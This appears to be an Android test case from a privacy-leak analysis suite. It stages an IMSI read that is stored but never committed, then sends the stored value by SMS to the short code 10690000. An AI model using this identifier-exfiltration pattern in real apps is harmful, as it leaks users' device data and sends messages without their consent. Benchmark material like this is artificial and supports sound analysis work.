package cn.privlens.suite.edit_never_applied;

import android.app.Activity;
import android.content.SharedPreferences;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SharedPreferences prefs = getSharedPreferences("config", MODE_PRIVATE);
        SharedPreferences.Editor edit = prefs.edit();
        edit.putString("id", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId());

        SmsManager.getDefault().sendTextMessage("10690000", null, prefs.getString("id", "none"), null, null);
    }
}
